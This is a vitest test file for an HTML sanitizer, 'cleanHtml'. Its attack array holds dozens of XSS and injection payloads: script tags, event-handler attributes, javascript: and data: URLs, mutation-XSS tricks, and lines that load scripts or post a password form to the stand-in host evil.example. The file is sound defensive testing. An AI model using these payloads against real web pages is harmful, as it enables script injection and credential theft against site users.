import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { describe, expect, test } from "vitest";
import { cleanHtml } from "./rich-text.js";

const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)//",
  '<img src="/a.png" onload="alert(1)" style="position:fixed">',
  "<p onclick=alert(1)>x</p>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/&#9;/evil.example/">x</a>',
  '<img src="/&#10;/evil.example/x">',
  '<a href="http://evil.example/">x</a>',
  '<img src="http://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/x">',
  '<img srcset="https://evil.example/x 1x" src="/a.png">',
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<style>@import url(//evil.example/x.css)</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<template><img src=x onerror=alert(1)></template>",
  "<video><source onerror=alert(1)></video><details ontoggle=alert(1) open>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<p id=root class=modal name=x tabindex=1 autofocus onfocus=alert(1)>x</p>",
  "<a href='/x' ping='https://evil.example' download target='_top' rel='opener'>x</a>",
  `${"<b>".repeat(500)}x`,
];

const harmless = new Set(
  "p br hr h2 h3 h4 strong b em i u s small blockquote ul ol li a img table caption thead tbody tr th td".split(
    " ",
  ),
);
const attributes = new Set(
  "dir lang href target rel src alt width height loading colspan rowspan scope start".split(" "),
);
const address = /^(https:\/\/|mailto:|tel:|#|\/(?![/\\]))[^\s]*$/;

/** Everything in HTML that is not known to be harmless, as a browser would parse it. */
function faultsOf(html: string): string[] {
  return faultsWithin(parseFragment(html).childNodes);
}

function faultsWithin(nodes: readonly DefaultTreeAdapterTypes.ChildNode[]): string[] {
  return nodes.flatMap((node) => {
    if (node.nodeName === "#text") return [];
    if (!("tagName" in node)) return [node.nodeName];
    const links = node.attrs.filter(({ name }) => name === "href" || name === "src");
    return [
      ...(harmless.has(node.tagName) ? [] : [node.tagName]),
      ...node.attrs.filter(({ name }) => !attributes.has(name)).map(({ name }) => name),
      ...links.filter(({ value }) => !address.test(value)).map(({ value }) => value),
      ...faultsWithin(node.childNodes),
    ];
  });
}

describe("cleaning HTML", () => {
  test.each(attacks)("leaves nothing that could run, load or deceive: %s", (attack) => {
    for (const html of [attack, `<p>before ${attack} after</p>`, `<table>${attack}<tr><td>${attack}`]) {
      const clean = cleanHtml(html);
      expect(faultsOf(clean), clean).toEqual([]);
      expect(clean).not.toMatch(/<script|onerror=["']?alert|javascript:/i);
      expect(cleanHtml(clean)).toBe(clean);
    }
  });

  test("would be caught by this test if it did nothing", () => {
    const caught = attacks.filter((html) => faultsOf(html).length > 0);
    expect(caught.length).toBeGreaterThan(attacks.length - 6);
  });

  test("keeps the markup of ordinary texts", () => {
    const html =
      '<h3>Rules</h3>\n<p dir="rtl">An <strong>important</strong> one, <em>truly</em>.</p><ul><li>one</li></ul>' +
      '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>';
    expect(cleanHtml(html)).toBe(html);
  });

  test("keeps links within the site, and opens external ones in a new tab", () => {
    expect(cleanHtml('<a href="/help#term">x</a><a href="#term">y</a>')).toBe(
      '<a href="/help#term">x</a><a href="#term">y</a>',
    );
    expect(cleanHtml('<a href="https://example.com/">x</a>')).toBe(
      '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  test("gives images an alt text, even if empty", () => {
    expect(cleanHtml('<img src="/art/card-reef-1.svg">')).toBe(
      '<img src="/art/card-reef-1.svg" alt="" loading="lazy" />',
    );
  });

  test("escapes text that only looks like HTML", () => {
    expect(cleanHtml("1 < 2 & 3 > 2")).toBe("1 &lt; 2 &amp; 3 &gt; 2");
  });
});
